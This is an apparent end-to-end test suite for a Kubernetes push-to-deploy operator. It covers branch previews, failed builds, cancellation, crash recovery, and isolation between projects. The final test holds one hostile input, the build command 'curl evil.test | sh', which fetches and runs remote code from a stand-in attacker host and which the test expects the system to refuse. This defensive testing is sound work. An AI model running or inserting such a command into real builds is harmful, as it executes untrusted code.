// Push to deploy (issue 40) with stock git: a repository on cw-git connected to an app by an AppSource (applied
// as kubectl would), the operator building each push with its local runner and deploying it, previews per branch,
// a broken build leaving production as it was, and a deleted branch taking its preview with it. cw-git's events
// role (a process of its own here, so it can be stopped alone) marks each push on the Repository (found by its
// sweep, every second: the shared test bucket sends no notifications), which wakes the operator; its own pass
// over the refs comes only every 30 s.
import { randomBytes } from 'node:crypto';
import { readFileSync } from 'node:fs';
import { afterAll, beforeAll, describe, expect, inject, it } from 'vitest';
import type { AppSource } from '../src/apis/v1alpha1/app-source.ts';
import type { Repository } from '../src/apis/v1alpha1/repository.ts';
import type { RuntimeApp } from '../src/apis/v1alpha1/runtime-app.ts';
import type { SourceBuild } from '../src/apis/v1alpha1/source-build.ts';
import { findCondition } from '../src/conditions/index.ts';
import { loadKubeConnection, objectClient } from '../src/kube/index.ts';
import { S3ObjectStore } from '../src/object-store/s3-object-store.ts';
import { RepoStore } from '../src/repo-store/repo-store.ts';
import { appArtifactPrefix } from '../src/platform/artifact-keys.ts';
import { APP_SOURCES, PROJECT_LABEL, REPOSITORIES, RUNTIME_APPS, SOURCE_BUILDS } from '../src/platform/resources.ts';
import { readBuildLog } from '../src/platform/source-builds/build-log.ts';
import type { RunningService } from '../git-server/serve.ts';
import { mintToken } from '../git-server/auth/index.ts';
import { createMemberAccount, createProjectNamespace, type MemberAccount } from './harness/accounts.ts';
import { GitClient } from './harness/git-client.ts';
import { newTokenSecret, startGitService } from './harness/git-service.ts';
import { killHard, type Service } from './harness/process.ts';
import { BASE_DOMAIN, eventually, notServedAnywhere, servedEverywhere, startOperator, startRuntime, type Runtime } from './harness/runtime-stack.ts';

const kubeconfig = inject('kubeconfig');
const conn = loadKubeConnection(kubeconfig);
const apps = objectClient<RuntimeApp>(conn, RUNTIME_APPS);
const sources = objectClient<AppSource>(conn, APP_SOURCES);
const builds = objectClient<SourceBuild>(conn, SOURCE_BUILDS);
const repositories = objectClient<Repository>(conn, REPOSITORIES);
const artifacts = new S3ObjectStore({ config: inject('s3'), bucket: inject('bucket') });
const running: Service[] = [];
let member: MemberAccount;
let project: string;
let runtime: Runtime;
let git: GitClient;
let service: RunningService;
/** cw-git's events role, in a process of its own so a test can stop it alone. */
let events: RunningService | undefined;
let work: string;
let remote: string;
let tokenSecret: string;
const operatorEnv = { CW_GIT_BUCKET: inject('bucket'), CW_BUILD_RUNNER: 'local', CW_PREVIEW_GRACE: '1s', CW_BUILD_RESYNC: '30s', CW_RUNTIME_BASE_DOMAIN: BASE_DOMAIN };

const host = (app: string) => `${app}.${project}.${BASE_DOMAIN}`;
const worker = (text: string) => ({ 'worker.js': `export default { fetch() { return new Response(${JSON.stringify(text)}); } };\n` });

beforeAll(async () => {
  member = await createMemberAccount(kubeconfig, 'push');
  project = member.project;
  await createProjectNamespace(kubeconfig, project);
  tokenSecret = newTokenSecret();
  [service, events, git] = await Promise.all([
    startGitService({ s3: inject('s3'), bucket: inject('bucket'), tokenSecret, namespace: project, kubeconfig, roles: ['serve'] }),
    startEvents(),
    GitClient.create(),
  ]);
  runtime = await startRuntime('cw-runtime-push', project, running);
  await startOperator(project, running, operatorEnv);
  ({ work, remote } = await appWithRepository('web', 'site'));
  await sources.create({ metadata: { name: 'web', namespace: project }, spec: { app: 'web', repository: { owner: project, name: 'site' } } });
}, 120_000);

function startEvents(): Promise<RunningService> {
  return startGitService({ s3: inject('s3'), bucket: inject('bucket'), tokenSecret, namespace: project, kubeconfig, roles: ['events'], sweepInterval: '1s' });
}

/** An app and a ready repository of the project, and a local clone-to-be pushing to it. */
async function appWithRepository(app: string, repo: string): Promise<{ work: string; remote: string }> {
  await repositories.create({ metadata: { name: repo, namespace: project }, spec: { owner: project, name: repo } });
  await eventually(
    `the repository ${repo} Ready`,
    () => repositories.get(project, repo),
    (r) => findCondition(r?.status?.conditions, 'Ready')?.status === 'True',
  );
  await apps.create({ metadata: { name: app, namespace: project, labels: { [PROJECT_LABEL]: project } }, spec: { displayName: app } });
  const token = mintToken({ sub: 'ada', scopes: ['write'] }, tokenSecret);
  const dir = await git.workdir(`${repo}-${randomBytes(3).toString('hex')}`);
  await git.run(['init', '-q'], { cwd: dir });
  return { work: dir, remote: `${service.url.replace('http://', `http://git:${token}@`)}/${project}/${repo}` };
}

afterAll(async () => {
  await Promise.all([service?.stop(), events?.stop(), ...running.map((s) => s.stop(5_000))]);
});

describe('push to deploy', () => {
  it('deploys each push to main, serves each branch on its preview host, keeps production on a broken build, and drops a deleted branch’s preview', { timeout: 240_000 }, async () => {
    const before = await eventually(
      'the source says main has no commits',
      () => sources.get(project, 'web'),
      (s) => findCondition(s?.status?.conditions, 'Ready')?.reason === 'BranchNotFound',
    );
    expect(findCondition(before?.status?.conditions, 'RepositoryReady')?.status).toBe('True');

    // A push to main is built and served on the app's host.
    const first = await git.commit(work, 'first', worker('hello from main'));
    const pushed = Date.now();
    await git.run(['push', '-q', remote, 'main'], { cwd: work });
    await servedEverywhere([runtime], host('web'), 'hello from main', 60_000);
    console.log(`push → production served: ${Date.now() - pushed} ms`);
    const deployed = await eventually(
      'the source says main is deployed',
      () => sources.get(project, 'web'),
      (s) => s?.status?.production?.deployedCommit === first,
    );
    expect(deployed?.status?.production).toMatchObject({ branch: 'main', commit: first, deployedCommit: first, host: host('web') });
    // What it said while building ("building …") went with the deploy.
    expect(deployed?.status?.production).not.toHaveProperty('message');
    // The app's deploy history says it came from this push, and when it was served.
    const repository = deployed?.spec.repository;
    const recorded = await eventually(
      'the push in the app’s deploy history, served',
      () => apps.get(project, 'web'),
      (a) => a?.status?.history?.[0]?.commit === first && a.status.history[0].servedAt !== undefined,
    );
    expect(recorded?.status?.history?.[0]).toMatchObject({ by: `push:${repository?.owner}/${repository?.name}@${first}` });
    const build = await builds.get(project, `web-${first.slice(0, 12)}`);
    expect(build?.status).toMatchObject({ state: 'Succeeded', commitMessage: 'first', author: 'Ada <ada@example.com>', runner: 'none' });
    const log = await readBuildLog(artifacts, project, `web-${first.slice(0, 12)}`);
    expect(log.text).toContain('no build command: packing the repository as it is');
    expect(log.end).toMatchObject({ state: 'Succeeded' });

    // A branch gets its preview on <branch>--<app>; production is unchanged.
    await git.run(['checkout', '-q', '-b', 'feature/x'], { cwd: work });
    await git.commit(work, 'preview', worker('hello from feature/x'));
    await git.run(['push', '-q', remote, 'feature/x'], { cwd: work });
    await servedEverywhere([runtime], host('feature-x--web'), 'hello from feature/x', 60_000);
    await servedEverywhere([runtime], host('web'), 'hello from main');
    const preview = await apps.get(project, 'feature-x--web');
    expect(preview?.metadata?.labels?.['cloudwright.dev/preview-of']).toBe('web');

    // A broken build (no entry point) fails with its reason; production keeps serving the last good build.
    await git.run(['checkout', '-q', 'main'], { cwd: work });
    await git.run(['rm', '-q', 'worker.js'], { cwd: work });
    const broken = await git.commit(work, 'broken', { 'README.md': 'no worker here\n' });
    await git.run(['push', '-q', remote, 'main'], { cwd: work });
    const failed = await eventually(
      'the broken build failed',
      () => builds.get(project, `web-${broken.slice(0, 12)}`),
      (b) => b?.status?.state === 'Failed',
      60_000,
    );
    expect(failed?.status).toMatchObject({ reason: 'OutputInvalid' });
    expect(failed?.status?.message).toContain('no entry point');
    const source = await eventually(
      'the source says why main is not deployed',
      () => sources.get(project, 'web'),
      (s) => findCondition(s?.status?.conditions, 'Ready')?.reason === 'BuildFailed',
    );
    expect(source?.status?.production).toMatchObject({ commit: broken, deployedCommit: first });
    await servedEverywhere([runtime], host('web'), 'hello from main');
    expect((await readBuildLog(artifacts, project, `web-${broken.slice(0, 12)}`)).text).toContain('no entry point');

    // Deleting the branch deletes its preview after the grace period (1 s here).
    await git.run(['push', '-q', remote, ':feature/x'], { cwd: work });
    await notServedAnywhere([runtime], host('feature-x--web'), 60_000);
    await eventually(
      'the preview app gone',
      () => apps.get(project, 'feature-x--web'),
      (a) => a === undefined,
    );
  });

  it('deploys the newer of two quick pushes, and rebuilds a force-pushed commit', { timeout: 120_000 }, async () => {
    const a = await git.commit(work, 'quick a', worker('quick a'));
    await git.run(['push', '-q', remote, 'main'], { cwd: work });
    const b = await git.commit(work, 'quick b', worker('quick b'));
    await git.run(['push', '-q', remote, 'main'], { cwd: work });
    await servedEverywhere([runtime], host('web'), 'quick b', 60_000);
    const source = await sources.get(project, 'web');
    expect(source?.status?.production).toMatchObject({ commit: b, deployedCommit: b });
    const older = await builds.get(project, `web-${a.slice(0, 12)}`);
    // Superseded while it waited or ran, or finished first and never deployed over the newer.
    expect(['Cancelled', 'Succeeded', undefined]).toContain(older?.status?.state);

    // A force-push back to an older commit deploys that commit again.
    await git.run(['reset', '-q', '--hard', a], { cwd: work });
    await git.run(['push', '-q', '--force', remote, 'main'], { cwd: work });
    await servedEverywhere([runtime], host('web'), 'quick a', 60_000);
  });

  it('keeps a build a user cancelled cancelled, and builds the branch again at its next push', { timeout: 120_000 }, async () => {
    const held = await appWithRepository('held', 'held-site');
    // A build that waits until it is stopped.
    await sources.create({
      metadata: { name: 'held', namespace: project },
      spec: { app: 'held', repository: { owner: project, name: 'held-site' }, previewBranches: [], build: { command: 'while true; do sleep 0.2; done' } },
    });
    const first = await git.commit(held.work, 'waits', worker('never built'));
    await git.run(['push', '-q', held.remote, 'main'], { cwd: held.work });
    const name = `held-${first.slice(0, 12)}`;
    await eventually(
      'the build running',
      () => builds.get(project, name),
      (b) => b?.status?.state === 'Building',
      60_000,
    );
    // What the API's cancel writes.
    await builds.patch(project, name, { spec: { cancelled: true } });
    const cancelled = await eventually(
      'the build cancelled',
      () => builds.get(project, name),
      (b) => b?.status?.state === 'Cancelled',
      30_000,
    );
    expect(cancelled?.status).toMatchObject({ reason: 'Cancelled' });
    const source = await eventually(
      'the source says the head was cancelled',
      () => sources.get(project, 'held'),
      (s) => findCondition(s?.status?.conditions, 'Ready')?.reason === 'BuildCancelled',
      30_000,
    );
    expect(source?.status?.production?.message).toContain('was cancelled');
    // Not deleted and built again behind the user's back.
    expect((await builds.get(project, name))?.metadata?.uid).toBe(cancelled?.metadata?.uid);

    await sources.patch(project, 'held', { spec: { build: { command: 'mkdir -p out && cp worker.js out/', outputDirectory: 'out' } } });
    await git.commit(held.work, 'builds', worker('built at the next push'));
    await git.run(['push', '-q', held.remote, 'main'], { cwd: held.work });
    await servedEverywhere([runtime], host('held'), 'built at the next push', 60_000);
  });

  it('retires the previews of a source whose repository is deleted', { timeout: 120_000 }, async () => {
    const gone = await appWithRepository('gone', 'gone-site');
    await sources.create({ metadata: { name: 'gone', namespace: project }, spec: { app: 'gone', repository: { owner: project, name: 'gone-site' } } });
    await git.commit(gone.work, 'main', worker('gone main'));
    await git.run(['push', '-q', gone.remote, 'main'], { cwd: gone.work });
    await git.run(['checkout', '-q', '-b', 'topic'], { cwd: gone.work });
    await git.commit(gone.work, 'topic', worker('gone topic'));
    await git.run(['push', '-q', gone.remote, 'topic'], { cwd: gone.work });
    await servedEverywhere([runtime], host('topic--gone'), 'gone topic', 60_000);

    await repositories.delete(project, 'gone-site');
    await eventually(
      'the preview app gone',
      () => apps.get(project, 'topic--gone'),
      (a) => a === undefined,
      60_000,
    );
    const source = await sources.get(project, 'gone');
    expect(findCondition(source?.status?.conditions, 'Ready')?.reason).toBe('RepositoryNotFound');
    // The production app is the user's: it stays, serving what it served.
    await servedEverywhere([runtime], host('gone'), 'gone main');
  });

  it('deploys a push made while cw-git’s events role was down, once it is back', { timeout: 120_000 }, async () => {
    const late = await appWithRepository('late', 'late-site');
    await sources.create({ metadata: { name: 'late', namespace: project }, spec: { app: 'late', repository: { owner: project, name: 'late-site' } } });
    await events?.stop();
    events = undefined;
    await git.commit(late.work, 'while down', worker('pushed while the events role was down'));
    await git.run(['push', '-q', late.remote, 'main'], { cwd: late.work });
    // Nothing woke the operator: its own pass over the refs comes every 30 s, the events role's sweep at its start.
    events = await startEvents();
    await servedEverywhere([runtime], host('late'), 'pushed while the events role was down', 60_000);
  });

  it('builds nothing for an app whose activeBuildId git applies, and builds the head once git lets the field go', { timeout: 120_000 }, async () => {
    const pinned = await appWithRepository('pinned', 'pinned-site');
    // Flux's kustomize-controller applies the app with the build it serves (git chooses it, not a push).
    await apps.apply(
      { apiVersion: 'cloudwright.dev/v1alpha1', kind: 'RuntimeApp', metadata: { name: 'pinned', namespace: project }, spec: { displayName: 'pinned', activeBuildId: 'b-from-git' } },
      { fieldManager: 'kustomize-controller', force: true },
    );
    await sources.create({ metadata: { name: 'pinned', namespace: project }, spec: { app: 'pinned', repository: { owner: project, name: 'pinned-site' } } });
    const commit = await git.commit(pinned.work, 'pushed beside git', worker('pushed once git let go'));
    await git.run(['push', '-q', pinned.remote, 'main'], { cwd: pinned.work });

    const refused = await eventually(
      'the push refused before its build',
      () => sources.get(project, 'pinned'),
      (s) => s?.status?.production?.commit === commit && findCondition(s.status.conditions, 'Ready')?.reason === 'DeployFailed',
    );
    expect(findCondition(refused?.status?.conditions, 'Ready')?.message).toMatch(/is not built, as it could not be deployed: RuntimeApp pinned: spec.activeBuildId is applied by kustomize-controller/);
    expect(refused?.status?.production?.build).toBeUndefined();
    expect((await builds.list(project)).items.filter((b) => b.spec.app === 'pinned')).toEqual([]);
    expect((await apps.get(project, 'pinned'))?.spec.activeBuildId).toBe('b-from-git');

    // Flux's mark hands the app over: the app's change wakes the source, which builds and deploys the head.
    await apps.patch(project, 'pinned', { metadata: { annotations: { 'kustomize.toolkit.fluxcd.io/reconcile': 'disabled' } } });
    await servedEverywhere([runtime], host('pinned'), 'pushed once git let go', 60_000);
    expect((await sources.get(project, 'pinned'))?.status?.production).toMatchObject({ commit, deployedCommit: commit, build: `pinned-${commit.slice(0, 12)}` });
  });

  it('loses no deploy when the operator is killed in the middle of a build', { timeout: 180_000 }, async () => {
    const slow = await appWithRepository('slow', 'slow-site');
    // The build sleeps 3 s before its output exists, so the kill lands while it runs.
    await sources.create({
      metadata: { name: 'slow', namespace: project },
      spec: { app: 'slow', repository: { owner: project, name: 'slow-site' }, previewBranches: [], build: { command: 'sleep 3 && mkdir -p out && cp worker.js out/', outputDirectory: 'out' } },
    });
    const commit = await git.commit(slow.work, 'slow', worker('built after a crash'));
    await git.run(['push', '-q', slow.remote, 'main'], { cwd: slow.work });
    await eventually(
      'the build running',
      () => builds.get(project, `slow-${commit.slice(0, 12)}`),
      (b) => b?.status?.state === 'Building',
      60_000,
    );
    const operator = running.find((s) => s.name === `operator-${project}`);
    if (!operator) throw new Error('no operator');
    await killHard(operator);
    running.splice(running.indexOf(operator), 1);
    await startOperator(project, running, operatorEnv);
    // The new operator first waits out the killed one's lease (15 s), then runs the whole build again and deploys it:
    // on a machine busy with other test files that took over 90 s once (ci-clone-44).
    await servedEverywhere([runtime], host('slow'), 'built after a crash', 150_000).catch(async (err: unknown) => {
      // Seen once in ~30 runs (ci-clone-79: a 404 throughout, the app never deployed): say where it stopped.
      const [stuck, app] = await Promise.all([builds.get(project, `slow-${commit.slice(0, 12)}`), apps.get(project, 'slow')]);
      // What the operators said of it (the killed one's and the new one's, one file): the run's state goes with it.
      const said = readFileSync(running.find((s) => s.name === `operator-${project}`)!.logPath, 'utf8')
        .split('\n')
        .filter((line) => /"level":("warn"|"error"|40|50)|slow-/.test(line))
        .slice(-80);
      console.log(said.join('\n'));
      throw new Error(`${String(err)}; the build's status: ${JSON.stringify(stuck?.status)}; the app's spec and status: ${JSON.stringify({ spec: app?.spec, status: app?.status })}`);
    });
    const build = await builds.get(project, `slow-${commit.slice(0, 12)}`);
    expect(build?.status?.state).toBe('Succeeded');
    const log = (await readBuildLog(artifacts, project, `slow-${commit.slice(0, 12)}`)).text;
    // The run started again after the restart, its log written afresh: one fetch, not two.
    expect(log.match(/fetching the source/g)).toHaveLength(1);
  });

  it('never builds another project’s repository: not through a Repository naming it, nor through a SourceBuild applied by hand', { timeout: 120_000 }, async () => {
    // The victim's repository, in the bucket and holding a secret, pushed through cw-git.
    const victim = `victim-${randomBytes(3).toString('hex')}`;
    await new RepoStore({ store: artifacts }).createRepo(`${victim}/secret`);
    const token = mintToken({ sub: 'victim', scopes: ['write'] }, tokenSecret);
    const dir = await git.workdir(`secret-${randomBytes(3).toString('hex')}`);
    await git.run(['init', '-q'], { cwd: dir });
    const secret = await git.commit(dir, 'secret', worker('the victim’s secret'));
    await git.run(['push', '-q', `${service.url.replace('http://', `http://git:${token}@`)}/${victim}/secret`, 'main'], { cwd: dir });

    // A Repository in this project naming it never holds the name, so a source pointing at it builds nothing.
    await repositories.create({ metadata: { name: 'stolen', namespace: project }, spec: { owner: victim, name: 'secret' } });
    await apps.create({ metadata: { name: 'thief', namespace: project, labels: { [PROJECT_LABEL]: project } }, spec: { displayName: 'thief' } });
    await sources.create({ metadata: { name: 'thief', namespace: project }, spec: { app: 'thief', repository: { owner: victim, name: 'secret' } } });
    const refused = await eventually(
      'the source refused',
      () => sources.get(project, 'thief'),
      (s) => findCondition(s?.status?.conditions, 'RepositoryReady')?.status === 'False',
    );
    expect(findCondition(refused?.status?.conditions, 'RepositoryReady')).toMatchObject({ reason: 'RepositoryNotFound' });
    expect(findCondition(refused?.status?.conditions, 'RepositoryReady')?.message).toContain(`the repository ${victim}/secret is not ready in this project`);

    // A SourceBuild applied by hand for that commit fails before anything is fetched.
    await builds.create({
      metadata: { name: `thief-${secret.slice(0, 12)}`, namespace: project },
      spec: { app: 'thief', source: 'thief', context: 'production', repository: `${victim}/secret`, branch: 'main', commit: secret },
    });
    const failed = await eventually(
      'the hand-made build refused',
      () => builds.get(project, `thief-${secret.slice(0, 12)}`),
      (b) => b?.status?.state === 'Failed',
    );
    expect(failed?.status).toMatchObject({ reason: 'SourceUnavailable' });
    expect(failed?.status?.message).toContain(`the repository ${victim}/secret is not ready in this project`);
    expect((await artifacts.list(appArtifactPrefix(project, 'thief'))).items).toEqual([]);
    expect((await apps.get(project, 'thief'))?.spec.activeBuildId).toBeUndefined();

    // Its record stays what was built: nothing added or taken away, and a cancel is never undone.
    const name = `thief-${secret.slice(0, 12)}`;
    await expect(builds.patch(project, name, { spec: { build: { command: 'curl evil.test | sh' } } })).rejects.toThrow(/immutable but for spec.cancelled/);
    await expect(builds.patch(project, name, { spec: { environment: { TOKEN: 'x' } } })).rejects.toThrow(/immutable but for spec.cancelled/);
    await builds.patch(project, name, { spec: { cancelled: true } });
    await expect(builds.patch(project, name, { spec: { cancelled: false } })).rejects.toThrow(/stays cancelled/);
  });
});
